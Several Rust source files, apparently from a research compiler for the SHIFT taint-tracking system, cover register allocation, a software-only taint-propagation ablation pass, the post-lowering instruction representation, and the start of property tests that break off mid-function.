    code.push(CInsn::isa(Op::JmpBr { br: Br::B0 }).glued());

    // Guard-recovery stub: raise a user-level alert. The `alert` runtime
    // call never returns, but a halt backstops it.
    if f.uses_guard {
        code.push(CInsn::new(COp::Bind(guard_label(f))));
        code.push(
            CInsn::isa(Op::Syscall { num: shift_isa::sys::ALERT })
                .with_prov(shift_isa::Provenance::Check)
                .glued(),
        );
        code.push(CInsn::isa(Op::Halt).glued());
    }

    AllocatedFn { name: f.name.clone(), code, frame_size, spill_count: next_slot }
}

/// Maps every register operand of an ISA op; `is_def` distinguishes the
/// written register.
fn map_op<A: Copy, B>(op: &Op<A>, mut m: impl FnMut(A, bool) -> B) -> Op<B> {
    match *op {
        Op::Alu { op: o, dst, src1, src2 } => {
            let (s1, s2) = (m(src1, false), m(src2, false));
            Op::Alu { op: o, dst: m(dst, true), src1: s1, src2: s2 }
        }
        Op::AluI { op: o, dst, src1, imm } => {
            let s1 = m(src1, false);
            Op::AluI { op: o, dst: m(dst, true), src1: s1, imm }
        }
        Op::MovI { dst, imm } => Op::MovI { dst: m(dst, true), imm },
        Op::Mov { dst, src } => {
            let s = m(src, false);
            Op::Mov { dst: m(dst, true), src: s }
        }
        Op::Ext { kind, size, dst, src } => {
            let s = m(src, false);
            Op::Ext { kind, size, dst: m(dst, true), src: s }
        }
        Op::Cmp { rel, pt, pf, src1, src2, nat_aware } => {
            Op::Cmp { rel, pt, pf, src1: m(src1, false), src2: m(src2, false), nat_aware }
        }
        Op::CmpI { rel, pt, pf, src1, imm, nat_aware } => {
            Op::CmpI { rel, pt, pf, src1: m(src1, false), imm, nat_aware }
        }
        Op::Ld { size, ext, dst, addr, spec } => {
            let a = m(addr, false);
            Op::Ld { size, ext, dst: m(dst, true), addr: a, spec }
        }
        Op::St { size, src, addr } => Op::St { size, src: m(src, false), addr: m(addr, false) },
        Op::StSpill { src, addr } => Op::StSpill { src: m(src, false), addr: m(addr, false) },
        Op::LdFill { dst, addr } => {
            let a = m(addr, false);
            Op::LdFill { dst: m(dst, true), addr: a }
        }
        Op::ChkS { src, target } => Op::ChkS { src: m(src, false), target },
        Op::Jmp { target } => Op::Jmp { target },
        Op::Call { link, target } => Op::Call { link, target },
        Op::JmpBr { br } => Op::JmpBr { br },
        Op::MovToBr { br, src } => Op::MovToBr { br, src: m(src, false) },
        Op::MovFromBr { dst, br } => Op::MovFromBr { dst: m(dst, true), br },
        Op::Tnat { pt, pf, src } => Op::Tnat { pt, pf, src: m(src, false) },
        Op::Tset { dst } => Op::Tset { dst: m(dst, true) },
        Op::Tclr { dst } => Op::Tclr { dst: m(dst, true) },
        Op::Syscall { num } => Op::Syscall { num },
        Op::Nop => Op::Nop,
        Op::Halt => Op::Halt,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower::lower_fn;
    use shift_ir::{ProgramBuilder, Rhs};
    use shift_isa::CmpRel;
    use std::collections::HashMap as Map;

    fn alloc(build: impl FnOnce(&mut shift_ir::FnBuilder)) -> AllocatedFn {
        let mut pb = ProgramBuilder::new();
        pb.func("f", 0, build);
        pb.func("callee", 1, |f| f.ret(None));
        let p = pb.build().unwrap();
        allocate(&lower_fn(p.func("f").unwrap(), &Map::new()).unwrap())
    }

    fn physical_regs(f: &AllocatedFn) -> Vec<Gpr> {
        let mut out = Vec::new();
        for i in &f.code {
            if let Some(d) = i.def() {
                out.push(d);
            }
            out.extend(i.uses());
        }
        out
    }

    #[test]
    fn simple_fn_uses_only_legal_registers() {
        let f = alloc(|f| {
            let a = f.iconst(1);
            let b = f.iconst(2);
            let c = f.add(a, b);
            f.ret(Some(c));
        });
        assert_eq!(f.spill_count, 0);
        for r in physical_regs(&f) {
            assert!(!r.is_scratch(), "instrumentation scratch {r} must never be allocated");
        }
    }

    #[test]
    fn high_pressure_spills_and_reloads() {
        // 20 simultaneously-live values exceed the 13-register pool.
        let f = alloc(|f| {
            let vals: Vec<_> = (0..20).map(|i| f.iconst(i)).collect();
            let mut acc = vals[0];
            // Keep them all live until the end by summing in reverse.
            for v in vals.iter().rev() {
                acc = f.add(acc, *v);
            }
            f.ret(Some(acc));
        });
        assert!(f.spill_count > 0, "expected spills under register pressure");
        let has_fill = f.code.iter().any(|i| matches!(i.op, COp::Isa(Op::LdFill { .. })));
        let has_spill = f.code.iter().any(|i| matches!(i.op, COp::Isa(Op::StSpill { .. })));
        assert!(has_fill && has_spill, "spill traffic must use st8.spill/ld8.fill");
    }

    #[test]
    fn call_crossing_values_are_spilled() {
        let f = alloc(|f| {
            let a = f.iconst(7);
            let arg = f.iconst(0);
            f.call_void("callee", &[arg]);
            // `a` is live across the call: must come from the frame.
            f.ret(Some(a));
        });
        assert!(f.spill_count >= 1);
        assert!(f.frame_size >= 16);
        // b0 must be saved and restored.
        let saves =
            f.code.iter().filter(|i| matches!(i.op, COp::Isa(Op::MovFromBr { .. }))).count();
        let restores =
            f.code.iter().filter(|i| matches!(i.op, COp::Isa(Op::MovToBr { .. }))).count();
        assert_eq!((saves, restores), (1, 1));
    }

    #[test]
    fn leaf_fn_has_no_b0_traffic() {
        let f = alloc(|f| {
            let v = f.iconst(0);
            f.ret(Some(v));
        });
        assert!(!f.code.iter().any(|i| matches!(
            i.op,
            COp::Isa(Op::MovFromBr { .. }) | COp::Isa(Op::MovToBr { .. })
        )));
        // Still returns through b0.
        assert!(matches!(f.code.last().unwrap().op, COp::Isa(Op::JmpBr { br: Br::B0 })));
    }

    #[test]
    fn frame_is_16_aligned() {
        let f = alloc(|f| {
            let l = f.local(24);
            let p = f.local_addr(l);
            f.ret(Some(p));
        });
        assert_eq!(f.frame_size % 16, 0);
        assert!(f.frame_size >= 24);
    }

    #[test]
    fn loop_carried_value_stays_in_a_register() {
        // A tight counting loop in a leaf function should allocate the
        // counter, producing zero spill traffic.
        let f = alloc(|f| {
            let i = f.iconst(0);
            f.while_cmp(
                |f| (CmpRel::Lt, f.use_of(i), Rhs::Imm(100)),
                |f| {
                    let n = f.addi(i, 1);
                    f.assign(i, n);
                },
            );
            f.ret(Some(i));
        });
        assert_eq!(f.spill_count, 0, "leaf loop counters must not spill:\n{:#?}", f.code);
    }
}
