//! The software-only taint-tracking pass — the ablation of SHIFT's central
//! idea.
//!
//! SHIFT's contribution is reusing NaT propagation so that *register* taint
//! costs nothing. This module implements what a software DIFT system must do
//! without that hardware: keep a register-taint **bitmask** in a reserved
//! register (`r31`, one bit per architectural register, LIFT-style) and emit
//! explicit propagation code around *every* register-writing instruction:
//!
//! * ALU ops: `taint(dst) = taint(src1) | taint(src2)` — extract two bits,
//!   OR them, clear the destination's bit, set it conditionally (~8
//!   instructions per original ALU instruction);
//! * loads/stores: the same bitmap traffic as SHIFT **plus** explicit
//!   software checks of the address register's taint bit (the hardware
//!   NaT-consumption faults that give SHIFT policies L1/L2 for free must be
//!   re-created as compare-and-branch sequences to an alert stub);
//! * compares: nothing — taint is not in the NaT bit, so there is nothing
//!   to relax. This is software tracking's one structural advantage, and it
//!   is nowhere near enough.
//!
//! The `ablation_nat_vs_shadow` bench runs the SPEC suite in this mode; the
//! measured slowdown lands in the range the paper quotes for software-based
//! systems ("from 4.6X to 37X", §1) and dwarfs SHIFT's, which is the
//! paper's argument in one number.

use shift_isa::{sys, AluOp, CmpRel, ExtKind, Gpr, MemSize, Op, Pr, Provenance};
use shift_tagmap::Granularity;

use crate::vcode::{CInsn, COp, Label};

/// Scratch registers (same reservation as the SHIFT pass).
const T0: Gpr = Gpr::R28;
const T1: Gpr = Gpr::R29;
const T2: Gpr = Gpr::R30;
/// The register-taint bitmask: bit *i* = register *i* is tainted.
pub const TAINT_MASK: Gpr = Gpr::R31;

const PT: Pr = Pr::P6;
const PF: Pr = Pr::P7;

fn isa(op: Op<Gpr>, prov: Provenance) -> CInsn<Gpr> {
    CInsn::isa(op).with_prov(prov)
}

/// Emits `T0 = taint bit of r` (0 or 1).
fn extract_bit(out: &mut Vec<CInsn<Gpr>>, r: Gpr, dst: Gpr, prov: Provenance) {
    out.push(isa(Op::AluI { op: AluOp::Shr, dst, src1: TAINT_MASK, imm: r.index() as i64 }, prov));
    out.push(isa(Op::AluI { op: AluOp::And, dst, src1: dst, imm: 1 }, prov));
}

/// Emits `taint(dst_reg) = (T0 != 0)`, assuming `T0` holds 0/1.
fn install_bit(out: &mut Vec<CInsn<Gpr>>, dst_reg: Gpr, prov: Provenance) {
    // Clear the bit, then OR in the (possibly zero) shifted value.
    out.push(isa(Op::MovI { dst: T1, imm: !(1i64 << dst_reg.index()) }, prov));
    out.push(isa(Op::Alu { op: AluOp::And, dst: TAINT_MASK, src1: TAINT_MASK, src2: T1 }, prov));
    out.push(isa(
        Op::AluI { op: AluOp::Shl, dst: T0, src1: T0, imm: dst_reg.index() as i64 },
        prov,
    ));
    out.push(isa(Op::Alu { op: AluOp::Or, dst: TAINT_MASK, src1: TAINT_MASK, src2: T0 }, prov));
}

/// Emits `taint(dst_reg) = 0`.
fn clear_bit(out: &mut Vec<CInsn<Gpr>>, dst_reg: Gpr, prov: Provenance) {
    out.push(isa(Op::MovI { dst: T1, imm: !(1i64 << dst_reg.index()) }, prov));
    out.push(isa(Op::Alu { op: AluOp::And, dst: TAINT_MASK, src1: TAINT_MASK, src2: T1 }, prov));
}

/// Tag-address computation shared with the SHIFT pass (Figure 4): `T0` ←
/// tag byte address, optionally `T1` ← bit index.
fn tag_addr(
    out: &mut Vec<CInsn<Gpr>>,
    gran: Granularity,
    addr: Gpr,
    need_bit: bool,
    prov: Provenance,
) {
    out.push(isa(Op::AluI { op: AluOp::Shr, dst: T0, src1: addr, imm: 61 }, prov));
    out.push(isa(Op::AluI { op: AluOp::Add, dst: T0, src1: T0, imm: -1 }, prov));
    out.push(isa(
        Op::AluI {
            op: AluOp::Shl,
            dst: T0,
            src1: T0,
            imm: shift_tagmap::REGION_STRIDE_BITS as i64,
        },
        prov,
    ));
    out.push(isa(Op::MovI { dst: T1, imm: shift_isa::IMPL_MASK as i64 }, prov));
    out.push(isa(Op::Alu { op: AluOp::And, dst: T1, src1: addr, src2: T1 }, prov));
    out.push(isa(Op::AluI { op: AluOp::Shr, dst: T2, src1: T1, imm: 3 }, prov));
    out.push(isa(Op::Alu { op: AluOp::Or, dst: T0, src1: T0, src2: T2 }, prov));
    if need_bit && gran.needs_bit_extraction() {
        out.push(isa(Op::AluI { op: AluOp::And, dst: T1, src1: T1, imm: 7 }, prov));
    }
}

/// Emits the L1/L2-equivalent software check: if `addr`'s taint bit is set,
/// jump to the alert stub. (The hardware gives SHIFT this for free.)
fn check_addr(out: &mut Vec<CInsn<Gpr>>, addr: Gpr, alert: Label) {
    extract_bit(out, addr, T0, Provenance::Check);
    out.push(isa(
        Op::CmpI { rel: CmpRel::Ne, pt: PT, pf: PF, src1: T0, imm: 0, nat_aware: false },
        Provenance::Check,
    ));
    out.push(CInsn::new(COp::Jmp(alert)).under(PT).with_prov(Provenance::Check));
}

/// Runs the software-only pass over one function's allocated code.
pub fn instrument_shadow(code: &[CInsn<Gpr>], gran: Granularity) -> Vec<CInsn<Gpr>> {
    // Fresh label for the alert stub, beyond anything the function binds.
    let max_label = code
        .iter()
        .filter_map(|i| match &i.op {
            COp::Bind(Label(l)) => Some(*l),
            _ => None,
        })
        .max()
        .unwrap_or(0);
    let alert = Label(max_label + 7);

    let mut out = Vec::with_capacity(code.len() * 6);
    for insn in code {
        // Predicated instructions: propagate conservatively (treat the def
        // as happening) — they are rare (SetCmp arms) and conservative
        // means "possibly tainted", never a lost tag.
        match &insn.op {
            COp::Isa(op) if !insn.glue => match *op {
                Op::Alu { dst, src1, src2, op: aop } => {
                    let self_cancel = src1 == src2 && matches!(aop, AluOp::Xor | AluOp::Sub);
                    out.push(insn.clone());
                    if self_cancel {
                        clear_bit(&mut out, dst, Provenance::TaintSource);
                    } else {
                        extract_bit(&mut out, src1, T0, Provenance::TaintSource);
                        extract_bit(&mut out, src2, T2, Provenance::TaintSource);
                        out.push(isa(
                            Op::Alu { op: AluOp::Or, dst: T0, src1: T0, src2: T2 },
                            Provenance::TaintSource,
                        ));
                        install_bit(&mut out, dst, Provenance::TaintSource);
                    }
                }
                Op::AluI { dst, src1, .. }
                | Op::Mov { dst, src: src1 }
                | Op::Ext { dst, src: src1, .. } => {
                    out.push(insn.clone());
                    extract_bit(&mut out, src1, T0, Provenance::TaintSource);
                    install_bit(&mut out, dst, Provenance::TaintSource);
                }
                Op::MovI { dst, .. } | Op::MovFromBr { dst, .. } => {
                    out.push(insn.clone());
                    clear_bit(&mut out, dst, Provenance::TaintSource);
                }
                Op::Tclr { dst } => {
                    // Sanitize marker: just clear the shadow bit.
                    clear_bit(&mut out, dst, Provenance::Relax);
                }
                Op::Ld { size, dst, addr, spec: false, .. } => {
                    // Software L1 check, then the bitmap lookup, the load,
                    // and the destination-bit update.
                    check_addr(&mut out, addr, alert);
                    emit_load_tag(&mut out, gran, size, addr);
                    out.push(insn.clone());
                    // T2 holds the extracted tag (0/1).
                    out.push(isa(Op::Mov { dst: T0, src: T2 }, Provenance::TaintSource));
                    install_bit(&mut out, dst, Provenance::TaintSource);
                }
                Op::St { size, src, addr } => {
                    // Software L2 check, then the bitmap update and store.
                    check_addr(&mut out, addr, alert);
                    emit_store_tag(&mut out, gran, size, src, addr);
                    out.push(insn.clone());
                }
                Op::Syscall { .. } => {
                    out.push(insn.clone());
                    // Runtime results are untainted values in r8; memory
                    // taint is handled through the bitmap by the runtime.
                    clear_bit(&mut out, Gpr::RET, Provenance::TaintSource);
                }
                _ => out.push(insn.clone()),
            },
            // Spill traffic must carry taint through memory in software:
            // NaT transparency does not exist in this mode, so spills get
            // the same bitmap treatment as ordinary 8-byte accesses.
            COp::Isa(Op::StSpill { src, addr }) => {
                emit_store_tag(&mut out, gran, MemSize::B8, *src, *addr);
                out.push(insn.clone());
            }
            COp::Isa(Op::LdFill { dst, addr }) => {
                emit_load_tag(&mut out, gran, MemSize::B8, *addr);
                out.push(insn.clone());
                out.push(isa(Op::Mov { dst: T0, src: T2 }, Provenance::TaintSource));
                install_bit(&mut out, *dst, Provenance::TaintSource);
            }
            // chk.s guards become software bit tests.
            COp::ChkS(r, target) => {
                extract_bit(&mut out, *r, T0, Provenance::Check);
                out.push(isa(
                    Op::CmpI {
                        rel: CmpRel::Ne,
                        pt: PT,
                        pf: PF,
                        src1: T0,
                        imm: 0,
                        nat_aware: false,
                    },
                    Provenance::Check,
                ));
                out.push(CInsn::new(COp::Jmp(*target)).under(PT).with_prov(Provenance::Check));
            }
            _ => out.push(insn.clone()),
        }
    }

    // The alert stub (software L1/L2 handler).
    out.push(CInsn::new(COp::Bind(alert)));
    out.push(CInsn::isa(Op::Syscall { num: sys::ALERT }).with_prov(Provenance::Check).glued());
    out.push(CInsn::isa(Op::Halt).glued());
    out
}

/// Loads the tag for `[addr]` into `T2` as 0/1.
fn emit_load_tag(out: &mut Vec<CInsn<Gpr>>, gran: Granularity, size: MemSize, addr: Gpr) {
    let sub_word = gran.needs_bit_extraction() && size != MemSize::B8;
    tag_addr(out, gran, addr, sub_word, Provenance::LdTagCompute);
    if sub_word {
        out.push(isa(
            Op::MovI { dst: T2, imm: (1i64 << size.bytes()) - 1 },
            Provenance::LdTagCompute,
        ));
        out.push(isa(
            Op::Alu { op: AluOp::Shl, dst: T2, src1: T2, src2: T1 },
            Provenance::LdTagCompute,
        ));
        out.push(isa(ld1(T1, T0), Provenance::LdTagMemory));
        out.push(isa(
            Op::Alu { op: AluOp::And, dst: T2, src1: T2, src2: T1 },
            Provenance::LdTagCompute,
        ));
    } else {
        out.push(isa(ld1(T2, T0), Provenance::LdTagMemory));
    }
    // Normalize to 0/1.
    out.push(isa(
        Op::CmpI { rel: CmpRel::Ne, pt: PT, pf: PF, src1: T2, imm: 0, nat_aware: false },
        Provenance::LdTagCompute,
    ));
    out.push(isa(Op::MovI { dst: T2, imm: 1 }, Provenance::LdTagCompute).under(PT));
    out.push(isa(Op::MovI { dst: T2, imm: 0 }, Provenance::LdTagCompute).under(PF));
}

/// Updates the tag for `[addr]` from `src`'s shadow bit, then leaves the
/// data store to the caller.
fn emit_store_tag(
    out: &mut Vec<CInsn<Gpr>>,
    gran: Granularity,
    size: MemSize,
    src: Gpr,
    addr: Gpr,
) {
    let sub_word = gran.needs_bit_extraction() && size != MemSize::B8;
    tag_addr(out, gran, addr, sub_word, Provenance::StTagCompute);
    // PT = src tainted?
    extract_bit(out, src, T2, Provenance::StTagCompute);
    out.push(isa(
        Op::CmpI { rel: CmpRel::Ne, pt: PT, pf: PF, src1: T2, imm: 0, nat_aware: false },
        Provenance::StTagCompute,
    ));
    if sub_word {
        out.push(isa(
            Op::MovI { dst: T2, imm: (1i64 << size.bytes()) - 1 },
            Provenance::StTagCompute,
        ));
        out.push(isa(
            Op::Alu { op: AluOp::Shl, dst: T2, src1: T2, src2: T1 },
            Provenance::StTagCompute,
        ));
        out.push(isa(ld1(T1, T0), Provenance::StTagMemory));
        out.push(
            isa(Op::Alu { op: AluOp::Or, dst: T1, src1: T1, src2: T2 }, Provenance::StTagCompute)
                .under(PT),
        );
        out.push(
            isa(Op::AluI { op: AluOp::Xor, dst: T2, src1: T2, imm: -1 }, Provenance::StTagCompute)
                .under(PF),
        );
        out.push(
            isa(Op::Alu { op: AluOp::And, dst: T1, src1: T1, src2: T2 }, Provenance::StTagCompute)
                .under(PF),
        );
        out.push(isa(st1(T1, T0), Provenance::StTagMemory));
    } else {
        out.push(isa(Op::MovI { dst: T2, imm: 0xff }, Provenance::StTagCompute).under(PT));
        out.push(isa(Op::MovI { dst: T2, imm: 0 }, Provenance::StTagCompute).under(PF));
        out.push(isa(st1(T2, T0), Provenance::StTagMemory));
    }
}

fn ld1(dst: Gpr, addr: Gpr) -> Op<Gpr> {
    Op::Ld { size: MemSize::B1, ext: ExtKind::Zero, dst, addr, spec: false }
}

fn st1(src: Gpr, addr: Gpr) -> Op<Gpr> {
    Op::St { size: MemSize::B1, src, addr }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn alu_propagation_costs_several_instructions() {
        let code = vec![CInsn::isa(Op::Alu {
            op: AluOp::Add,
            dst: Gpr::R3,
            src1: Gpr::R1,
            src2: Gpr::R2,
        })];
        let out = instrument_shadow(&code, Granularity::Byte);
        // Original + ≥8 propagation instructions + the alert stub.
        assert!(out.len() >= 10, "got {}", out.len());
        assert!(out
            .iter()
            .any(|i| matches!(i.op, COp::Isa(Op::Syscall { num }) if num == sys::ALERT)));
    }

    #[test]
    fn xor_self_clears_the_shadow_bit() {
        let code = vec![CInsn::isa(Op::Alu {
            op: AluOp::Xor,
            dst: Gpr::R3,
            src1: Gpr::R3,
            src2: Gpr::R3,
        })];
        let out = instrument_shadow(&code, Granularity::Byte);
        // The clear idiom avoids the full extract/or/install dance.
        let props = out.iter().filter(|i| i.prov == Provenance::TaintSource).count();
        assert!(props <= 2, "clear idiom should be cheap, got {props}");
    }

    #[test]
    fn loads_get_address_checks_and_bit_installs() {
        let code = vec![CInsn::isa(Op::Ld {
            size: MemSize::B8,
            ext: ExtKind::Zero,
            dst: Gpr::R3,
            addr: Gpr::R4,
            spec: false,
        })];
        let out = instrument_shadow(&code, Granularity::Byte);
        let checks = out.iter().filter(|i| i.prov == Provenance::Check).count();
        assert!(checks >= 3, "software L1 check expected, got {checks}");
        assert!(out.iter().any(|i| i.prov == Provenance::LdTagMemory));
    }

    #[test]
    fn spill_traffic_is_instrumented_in_software_mode() {
        // NaT transparency does not exist here: spills must carry taint
        // through the bitmap.
        let code = vec![
            CInsn::isa(Op::StSpill { src: Gpr::R3, addr: Gpr::R24 }).glued(),
            CInsn::isa(Op::LdFill { dst: Gpr::R3, addr: Gpr::R24 }).glued(),
        ];
        let out = instrument_shadow(&code, Granularity::Byte);
        assert!(out.iter().any(|i| i.prov == Provenance::StTagMemory));
        assert!(out.iter().any(|i| i.prov == Provenance::LdTagMemory));
    }
}
