//! Virtual machine code: the compiler's post-lowering representation.
//!
//! Lowering produces [`shift_isa::Op`] instructions over [`VR`] operands
//! (virtual registers mixed with pinned physical registers for ABI points),
//! with function-local symbolic [`Label`]s for control flow. Register
//! allocation rewrites `VR` to [`Gpr`]; linking resolves labels to absolute
//! instruction indices.

use core::fmt;

use shift_ir::VReg;
use shift_isa::{Gpr, Op, Pr, Provenance};

/// A symbolic, function-local code label.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub struct Label(pub u32);

impl fmt::Display for Label {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, ".L{}", self.0)
    }
}

/// A register operand before allocation: virtual, or pinned physical (ABI
/// argument/result registers, the stack pointer, reserved scratch).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum VR {
    /// A virtual register, subject to allocation.
    V(VReg),
    /// A pinned physical register.
    P(Gpr),
}

impl fmt::Display for VR {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            VR::V(v) => write!(f, "{v}"),
            VR::P(p) => write!(f, "{p}"),
        }
    }
}

/// A compiler operation: an ISA operation or a control pseudo-op with a
/// symbolic target.
///
/// The `Isa` variant must not contain the ISA's own absolute-target control
/// instructions (`Op::Jmp`, `Op::Call`, `Op::ChkS`) — those only exist after
/// linking; the linker asserts this.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum COp<R> {
    /// A register-level ISA operation.
    Isa(Op<R>),
    /// Branch to a label (conditional via the instruction's `qp`).
    Jmp(Label),
    /// Call a function by symbol name (return address in `b0`).
    Call(String),
    /// `chk.s` to a label.
    ChkS(R, Label),
    /// Label definition (emits no code).
    Bind(Label),
}

/// A compiler instruction: qualifying predicate, operation, provenance, and
/// a `glue` flag marking compiler-internal code (prologue/epilogue, spill
/// reload/stores, the entry stub) that the SHIFT pass must not instrument —
/// spills already travel through NaT-preserving `st8.spill`/`ld8.fill`.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct CInsn<R> {
    /// Qualifying predicate (`p0` = always).
    pub qp: Pr,
    /// The operation.
    pub op: COp<R>,
    /// Provenance label for cycle attribution.
    pub prov: Provenance,
    /// Compiler-internal glue, exempt from instrumentation.
    pub glue: bool,
}

impl<R> CInsn<R> {
    /// An unconditional, non-glue instruction of [`Provenance::Original`].
    pub fn new(op: COp<R>) -> CInsn<R> {
        CInsn { qp: Pr::P0, op, prov: Provenance::Original, glue: false }
    }

    /// An unconditional ISA instruction.
    pub fn isa(op: Op<R>) -> CInsn<R> {
        CInsn::new(COp::Isa(op))
    }

    /// Marks the instruction as compiler glue.
    pub fn glued(mut self) -> CInsn<R> {
        self.glue = true;
        self
    }

    /// Sets the qualifying predicate.
    pub fn under(mut self, qp: Pr) -> CInsn<R> {
        self.qp = qp;
        self
    }

    /// Sets the provenance.
    pub fn with_prov(mut self, prov: Provenance) -> CInsn<R> {
        self.prov = prov;
        self
    }
}

impl<R: Copy> CInsn<R> {
    /// Register defined by this instruction, if any.
    pub fn def(&self) -> Option<R> {
        match &self.op {
            COp::Isa(op) => op.def_reg(),
            _ => None,
        }
    }

    /// Registers used by this instruction.
    pub fn uses(&self) -> Vec<R> {
        match &self.op {
            COp::Isa(op) => op.use_regs().into_iter().flatten().collect(),
            COp::ChkS(r, _) => vec![*r],
            _ => Vec::new(),
        }
    }
}

impl<R: fmt::Display> fmt::Display for CInsn<R> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if let COp::Bind(l) = &self.op {
            return write!(f, "{l}:");
        }
        if self.qp != Pr::P0 {
            write!(f, "({}) ", self.qp)?;
        }
        match &self.op {
            COp::Isa(op) => write!(f, "{op}"),
            COp::Jmp(l) => write!(f, "br {l}"),
            COp::Call(name) => write!(f, "br.call b0 = {name}"),
            COp::ChkS(r, l) => write!(f, "chk.s {r}, {l}"),
            COp::Bind(_) => unreachable!(),
        }
    }
}

/// One lowered, not-yet-allocated function.
#[derive(Clone, Debug)]
pub struct LoweredFn {
    /// Function name.
    pub name: String,
    /// Code per IR basic block, in block order. Block `i` is preceded by
    /// `Bind(Label(i))` when flattened; the epilogue lives under
    /// `Label(blocks.len())`.
    pub blocks: Vec<Vec<CInsn<VR>>>,
    /// Successor block indices (from the IR CFG), used by liveness.
    pub succs: Vec<Vec<usize>>,
    /// Number of virtual registers.
    pub nvregs: u32,
    /// Total bytes of IR locals (already laid out at `sp + [0, locals_size)`).
    pub locals_size: u64,
    /// Whether the function contains calls (forces `b0` save/restore).
    pub has_calls: bool,
    /// Whether the function contains `Guard` checks (gets a recovery stub).
    pub uses_guard: bool,
}

/// The label used for a function's shared epilogue.
pub fn epilogue_label(f: &LoweredFn) -> Label {
    Label(f.blocks.len() as u32)
}

/// The label of a function's guard-recovery stub (present only when the
/// function contains `Guard` checks).
pub fn guard_label(f: &LoweredFn) -> Label {
    Label(f.blocks.len() as u32 + 1)
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::AluOp;

    #[test]
    fn display_virtual_and_physical() {
        let i: CInsn<VR> = CInsn::isa(Op::Alu {
            op: AluOp::Add,
            dst: VR::V(VReg(3)),
            src1: VR::P(Gpr::SP),
            src2: VR::V(VReg(1)),
        });
        assert_eq!(i.to_string(), "add v3 = r12, v1");
    }

    #[test]
    fn def_use_through_cop() {
        let call: CInsn<VR> = CInsn::new(COp::Call("f".into()));
        assert_eq!(call.def(), None);
        assert!(call.uses().is_empty());

        let chk: CInsn<VR> = CInsn::new(COp::ChkS(VR::V(VReg(2)), Label(0)));
        assert_eq!(chk.uses(), vec![VR::V(VReg(2))]);
    }

    #[test]
    fn labels_display() {
        let b: CInsn<VR> = CInsn::new(COp::Bind(Label(4)));
        assert_eq!(b.to_string(), ".L4:");
        let j: CInsn<VR> = CInsn::new(COp::Jmp(Label(4))).under(Pr::P1);
        assert_eq!(j.to_string(), "(p1) br .L4");
    }
}
