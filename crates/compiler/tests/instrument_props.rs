//! Property tests over the SHIFT instrumentation pass: for random
//! application code and random pass options, the pass preserves the
//! original instruction stream as an ordered sub-sequence (modulo the
//! documented `st8 → st8.spill` rewrite) and confines its own additions to
//! the reserved scratch state.

use proptest::prelude::*;

use shift_compiler::instrument::{instrument, NatGen, ShiftOptions};
use shift_compiler::{CInsn, COp};
use shift_isa::{AluOp, CmpRel, ExtKind, Gpr, MemSize, Op, Pr, Provenance};
use shift_tagmap::Granularity;

/// Application registers only (never the reserved r24–r31).
fn app_reg() -> impl Strategy<Value = Gpr> {
    (1usize..16).prop_map(Gpr::from_index)
}

fn mem_size() -> impl Strategy<Value = MemSize> {
    prop_oneof![Just(MemSize::B1), Just(MemSize::B2), Just(MemSize::B4), Just(MemSize::B8)]
}

fn app_insn() -> impl Strategy<Value = CInsn<Gpr>> {
    prop_oneof![
        (app_reg(), app_reg(), app_reg()).prop_map(|(d, a, b)| {
            CInsn::isa(Op::Alu { op: AluOp::Add, dst: d, src1: a, src2: b })
        }),
        (app_reg(), any::<i16>())
            .prop_map(|(d, imm)| { CInsn::isa(Op::MovI { dst: d, imm: i64::from(imm) }) }),
        (mem_size(), app_reg(), app_reg()).prop_map(|(size, d, a)| {
            CInsn::isa(Op::Ld { size, ext: ExtKind::Zero, dst: d, addr: a, spec: false })
        }),
        (mem_size(), app_reg(), app_reg())
            .prop_map(|(size, s, a)| { CInsn::isa(Op::St { size, src: s, addr: a }) }),
        (app_reg(), app_reg()).prop_map(|(a, b)| {
            CInsn::isa(Op::Cmp {
                rel: CmpRel::Lt,
                pt: Pr::P1,
                pf: Pr::P2,
                src1: a,
                src2: b,
                nat_aware: false,
            })
        }),
        (app_reg(), app_reg()).prop_map(|(d, s)| CInsn::isa(Op::Mov { dst: d, src: s })),
    ]
}

fn options() -> impl Strategy<Value = ShiftOptions> {
    (
        prop_oneof![Just(Granularity::Byte), Just(Granularity::Word)],
        any::<bool>(),
        any::<bool>(),
        any::<bool>(),
        prop_oneof![Just(NatGen::Kept), Just(NatGen::PerFunction), Just(NatGen::PerUse)],
    )
        .prop_map(|(granularity, set_clr, nat_cmp, relax_analysis, nat_gen)| ShiftOptions {
            granularity,
            set_clr,
            nat_cmp,
            relax_analysis,
            nat_gen,
        })
}

/// Two instructions are "the same original" if equal, or related by the
/// pass's documented rewrites (`st8 → st8.spill`, `cmp → cmp.nat`).
fn matches_original(orig: &CInsn<Gpr>, got: &CInsn<Gpr>) -> bool {
    if orig == got {
        return true;
    }
    match (&orig.op, &got.op) {
        (
            COp::Isa(Op::St { size: MemSize::B8, src: s1, addr: a1 }),
            COp::Isa(Op::StSpill { src: s2, addr: a2 }),
        ) => s1 == s2 && a1 == a2,
        (
            COp::Isa(Op::Cmp { rel: r1, pt: t1, pf: f1, src1: a1, src2: b1, .. }),
            COp::Isa(Op::Cmp { rel: r2, pt: t2, pf: f2, src1: a2, src2: b2, nat_aware: true }),
        ) => r1 == r2 && t1 == t2 && f1 == f2 && a1 == a2 && b1 == b2,
        _ => false,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    /// Every original instruction survives, in order.
    #[test]
    fn originals_form_an_ordered_subsequence(
        code in prop::collection::vec(app_insn(), 1..24),
        opts in options(),
    ) {
        let (out, _) = instrument(&code, &opts);
        let mut cursor = out.iter();
        for orig in &code {
            let found = cursor.any(|got| matches_original(orig, got));
            prop_assert!(found, "lost original {orig:?} under {opts:?}");
        }
    }

    /// Instrumentation writes only reserved scratch registers, the taint
    /// predicates, or registers it is explicitly laundering/tainting (which
    /// are registers the adjacent original instruction touches).
    #[test]
    fn instrumentation_confines_its_register_writes(
        code in prop::collection::vec(app_insn(), 1..24),
        opts in options(),
    ) {
